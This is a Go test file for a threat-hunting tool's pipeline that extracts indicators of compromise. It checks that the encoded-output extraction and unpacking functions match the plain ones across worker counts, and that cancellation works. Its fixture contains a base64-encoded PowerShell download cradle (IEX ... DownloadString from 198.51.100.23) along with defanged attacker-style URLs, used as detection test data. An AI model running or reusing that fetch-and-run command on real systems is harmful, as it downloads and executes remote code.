package pipeline

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"iter"
	"strings"
	"testing"

	"github.com/hunchsec/hunch/ioc"
	"github.com/hunchsec/hunch/record"
)

// encodedInput is a stream with every kind of match record in it: flagged and unflagged IPs,
// defanged URLs, encoded PowerShell, fields to keep, repeats within and across records, and
// malformed records (parse errors) in their places.
func encodedInput(n int) record.Stream {
	script := "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1'); $c='10.0.0.5'"
	enc := utf16leBase64(script)
	return func(yield func(record.Record, error) bool) {
		for i := range n {
			if i%97 == 13 {
				if !yield(record.Record{}, &record.ParseError{Source: "ev", Line: i + 1, Reason: "bad"}) {
					return
				}
				continue
			}
			cmd := fmt.Sprintf("powershell -enc %s # to 192.168.%d.%d and 127.0.0.1, hxxps://evil-%d[.]example[.]com/x 203.0.113.%d", enc, i%3, i%200, i%17, i%5)
			if i%2 == 1 {
				cmd = fmt.Sprintf("ping 198.51.100.%d ; ping 198.51.100.%d ; fe80::%x", i%7, i%7, i)
			}
			r := record.New(
				record.Field{Name: "Computer", Value: record.String(fmt.Sprintf("WKS-%03d", i%11))},
				record.Field{Name: "CommandLine", Value: record.String(cmd)},
				record.Field{Name: "type", Value: record.String("clash")},
			)
			r.Meta = record.Meta{Source: "ev", Line: i + 1, N: i + 1}
			if !yield(r, nil) {
				return
			}
		}
	}
}

// transcript renders a stream of records, errors in their places, as lines.
func transcript(s record.Stream, enc *record.Encoder) string {
	var b []byte
	for r, err := range s {
		if err != nil {
			b = append(b, "error: "+err.Error()+"\n"...)
			continue
		}
		b = enc.AppendRecord(b, r)
	}
	return string(b)
}

// encodedTranscript is transcript for a stream of rendered runs; it also checks each run's
// count against the lines it holds.
func encodedTranscript(t *testing.T, s iter.Seq2[Encoded, error]) string {
	t.Helper()
	var b []byte
	for e, err := range s {
		if err != nil {
			b = append(b, "error: "+err.Error()+"\n"...)
			continue
		}
		if e.N == 0 || bytes.Count(e.Data, []byte("\n")) != e.N {
			t.Fatalf("run of %d records holds %d lines", e.N, bytes.Count(e.Data, []byte("\n")))
		}
		b = append(b, e.Data...)
	}
	return string(b)
}

func ndjsonEncoder(t *testing.T) *record.Encoder {
	t.Helper()
	w, err := record.NewWriter(&bytes.Buffer{}, record.OutNDJSON, record.WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return w.(record.EncodingWriter).Encoder()
}

// TestExtractEncodedMatchesExtract: the rendered runs hold exactly the bytes of Extract's records,
// errors in the same places, for every option that shapes the records and any number of workers.
func TestExtractEncodedMatchesExtract(t *testing.T) {
	enc := ndjsonEncoder(t)
	ex, err := ioc.NewExtractor(ioc.Options{})
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		opts ExtractOptions
	}{
		{"every string", ExtractOptions{}},
		{"fields kept", ExtractOptions{Extractor: ex, Fields: []string{"CommandLine"}, Keep: true}},
		{"unique per record", ExtractOptions{Unique: UniqueRecord}},
		{"unique global", ExtractOptions{Unique: UniqueGlobal, MaxUnique: 40}},
		{"unpack", ExtractOptions{Fields: []string{"CommandLine"}, Unpacker: mustUnpacker(t)}},
		{"unpack unique per record kept", ExtractOptions{Fields: []string{"CommandLine"}, Keep: true, Unique: UniqueRecord, Unpacker: mustUnpacker(t)}},
	}
	const n = 1500
	for _, tt := range tests {
		want := transcript(Extract(context.Background(), encodedInput(n), tt.opts), enc)
		if !strings.Contains(want, `"ip_flags":["private"]`) || !strings.Contains(want, "error: ") {
			t.Fatalf("%s: the input lacks flagged IPs or errors:\n%.2000s", tt.name, want)
		}
		for _, workers := range []int{1, 2, 3} {
			t.Run(fmt.Sprintf("%s/workers=%d", tt.name, workers), func(t *testing.T) {
				o := tt.opts
				o.Workers = workers
				got := encodedTranscript(t, ExtractEncoded(context.Background(), encodedInput(n), o, enc))
				if got != want {
					t.Errorf("rendered runs differ from Extract's records\n%s", firstDiff(got, want))
				}
			})
		}
	}
}

// TestUnpackEncodedMatchesUnpack: as TestExtractEncodedMatchesExtract, for Unpack.
func TestUnpackEncodedMatchesUnpack(t *testing.T) {
	enc := ndjsonEncoder(t)
	tests := []struct {
		name string
		opts UnpackOptions
	}{
		{"every string", UnpackOptions{}},
		{"fields kept, all", UnpackOptions{Unpacker: mustUnpacker(t), Fields: []string{"CommandLine"}, Keep: true, All: true}},
	}
	const n = 700
	for _, tt := range tests {
		want := transcript(Unpack(context.Background(), encodedInput(n), tt.opts), enc)
		if !strings.Contains(want, `"full_decoded"`) || !strings.Contains(want, "error: ") {
			t.Fatalf("%s: the input lacks blobs or errors", tt.name)
		}
		for _, workers := range []int{1, 2, 3} {
			t.Run(fmt.Sprintf("%s/workers=%d", tt.name, workers), func(t *testing.T) {
				o := tt.opts
				o.Workers = workers
				got := encodedTranscript(t, UnpackEncoded(context.Background(), encodedInput(n), o, enc))
				if got != want {
					t.Errorf("rendered runs differ from Unpack's records\n%s", firstDiff(got, want))
				}
			})
		}
	}
}

// TestExtractEncodedStopAndCancel: the consumer can stop early, and a cancelled context ends
// the stream with its error.
func TestExtractEncodedStopAndCancel(t *testing.T) {
	enc := ndjsonEncoder(t)
	for _, workers := range []int{1, 4} {
		runs := 0
		for _, err := range ExtractEncoded(context.Background(), encodedInput(5000), ExtractOptions{Workers: workers}, enc) {
			if err != nil {
				continue
			}
			runs++
			if runs == 2 {
				break
			}
		}
		if runs != 2 {
			t.Errorf("workers=%d: stopped after %d runs, want 2", workers, runs)
		}
		ctx, cancel := context.WithCancel(context.Background())
		cancel()
		var last error
		for _, err := range ExtractEncoded(ctx, encodedInput(5000), ExtractOptions{Workers: workers}, enc) {
			if err != nil {
				last = err
			}
		}
		if !errors.Is(last, context.Canceled) {
			t.Errorf("workers=%d: cancelled context ended with %v, want context.Canceled", workers, last)
		}
	}
}

// firstDiff shows the first line where got and want differ.
func firstDiff(got, want string) string {
	g, w := strings.Split(got, "\n"), strings.Split(want, "\n")
	for i := range min(len(g), len(w)) {
		if g[i] != w[i] {
			return fmt.Sprintf("line %d:\n got %s\nwant %s", i+1, g[i], w[i])
		}
	}
	return fmt.Sprintf("got %d lines, want %d", len(g), len(w))
}
